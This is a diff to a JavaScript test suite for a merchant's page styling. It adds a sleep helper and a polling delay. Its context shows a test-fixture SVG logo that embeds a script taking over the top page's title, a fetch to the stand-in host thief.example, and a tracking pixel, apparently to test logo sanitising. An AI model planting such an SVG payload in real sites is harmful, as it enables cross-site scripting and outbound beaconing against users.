@@ -21,6 +21,8 @@ const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 30">
 <script>top.document.title = 'taken over'; fetch('https://thief.example/')</script>
 <image href="https://thief.example/pixel.png" width="1" height="1"/></svg>`;
 
+const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+
 /** `rgb(194, 24, 91)` as `#c2185b`. */
 const hex = (colour) => `#${colour.match(/\d+/g).slice(0, 3).map((it) => Number(it).toString(16).padStart(2, '0')).join('')}`;
 
@@ -67,6 +69,7 @@ describe('the look of a merchant', { timeout: 4 * TIMEOUT }, () => {
       const text = await response.text();
       if (text.includes(expected)) return;
       assert.ok(Date.now() < deadline, `the page never had ${expected}`);
+      await pause(50);
     }
   }
 
